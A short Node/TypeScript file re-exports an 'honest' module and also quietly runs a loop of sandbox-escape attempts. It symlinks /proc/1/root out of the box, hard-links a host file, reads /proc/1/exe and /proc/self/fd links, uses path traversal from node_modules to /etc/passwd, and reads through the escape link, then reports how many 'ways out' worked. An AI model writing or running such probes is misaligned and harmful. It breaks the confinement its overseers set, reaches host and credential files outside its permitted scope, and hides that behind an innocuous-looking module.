/** Makes links that lead out of the box and reads through them, which the permission model allows. */
import { linkSync, readFileSync, readlinkSync, symlinkSync } from 'node:fs'
export * from './honest.ts'

let done = 0
for (const attempt of [
  () => symlinkSync('/proc/1/root/work', '/tmp/way-out'),
  () => linkSync('/host/boot.js', '/tmp/boot.js'),
  () => readlinkSync('/proc/1/exe'),
  () => readlinkSync('/proc/self/fd/3'),
  () => readFileSync('/w/node_modules/@cloud-labs/labkit/../../../../etc/passwd'),
  () => readFileSync('/tmp/way-out/main/package.json'),
]) {
  try {
    attempt()
    done += 1
  } catch {}
}
console.log(`found ${done} ways out`)
